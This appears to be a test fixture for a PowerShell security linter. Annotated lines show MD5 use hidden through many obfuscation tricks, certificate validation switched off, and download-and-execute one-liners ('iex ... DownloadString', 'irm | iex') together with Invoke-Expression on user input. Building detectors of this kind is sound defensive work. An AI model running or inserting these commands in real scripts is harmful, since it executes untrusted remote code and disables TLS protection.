# Every role of the facts, by what rules make of it.
<# a block #>
$weak = 'MD5'
$algorithm = "${weak}"
Get-FileHash x.zip -Algorithm $algorithm  # expect: weak-hash
get-filehash x.zip -ALGORITHM ('M' + 'D5')  # expect: weak-hash
Get-FileHash x.zip -Algorithm SHA256
Get-FileHash x.zip -Algorithm "M$('D5')"  # expect: weak-hash
Get-FileHash x.zip -Algorithm ('{0}{1}' -f 'MD', 5)  # expect: weak-hash
Get-FileHash x.zip -Algorithm (-join ('M', 'D5'))  # expect: weak-hash
Get-FileHash x.zip -Algorithm (([char]77) + 'D5')  # expect: weak-hash
$table = @{ old = 'MD5'; new = 'SHA256' }
Get-FileHash x.zip -Algorithm $table.old  # expect: weak-hash
Get-FileHash x.zip -Algorithm $table['new']
$list = 'SHA256', 'MD5'
Get-FileHash x.zip -Algorithm $list[1]  # expect: weak-hash
$one, $two = 'SHA256', 'MD5'
Get-FileHash x.zip -Algorithm $two  # expect: weak-hash
$here = @'
MD5
'@
Get-FileHash x.zip -Algorithm $here  # expect: weak-hash
function Get-Sum($path, $way = 'SHA256') { Get-FileHash $path -Algorithm $way }  # expect: weak-hash
Get-Sum x.zip -way MD5
if ($x -eq 1) { $way = 'MD5' } elseif ($y) { $way = 'SHA1' } else { $way = 'SHA256' }
Get-FileHash x.zip -Algorithm $way  # expect: weak-hash
foreach ($name in 'MD5', 'SHA256') { Get-FileHash x.zip -Algorithm $name }  # expect: weak-hash
for ($i = 0; $i -lt 3; $i++) { $last = $i }
while ($x) { break }
try { Get-FileHash x -Algorithm MD5 } catch { $x } finally { $y }  # expect: weak-hash
'MD5' | ForEach-Object { Get-FileHash x.zip -Algorithm $_ }  # expect: weak-hash
class Sealer { [string]$way = 'x'; Sealer([string]$w) { $this.way = $w } [void] Run() { iwr $this.way } }
$made = [Sealer]::new('MD5')
Get-FileHash x.zip -Algorithm $made.way  # expect: weak-hash
& 'Get-FileHash' x.zip -Algorithm MD5  # expect: weak-hash
$command = 'Get-File' + 'Hash'
& $command x.zip -Algorithm MD5  # expect: weak-hash
Set-Alias sums Get-FileHash
sums x.zip -Algorithm MD5  # expect: weak-hash
[System.Security.Cryptography.MD5]::Create()  # expect: weak-hash
[Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }  # expect: tls-verify-off
Invoke-WebRequest $url -SkipCertificateCheck  # expect: tls-verify-off
iex (New-Object Net.WebClient).DownloadString('https://example.com/x')  # expect: download-and-execute
(irm https://example.com/x) | iex  # expect: download-and-execute, dynamic-code
$code = Read-Host
Invoke-Expression $code  # expect: dynamic-code
$s = 'M'; $s += 'D5'
Get-FileHash x.zip -Algorithm $s  # expect: weak-hash
$env:X = 'y'; -not $x; throw 'x'
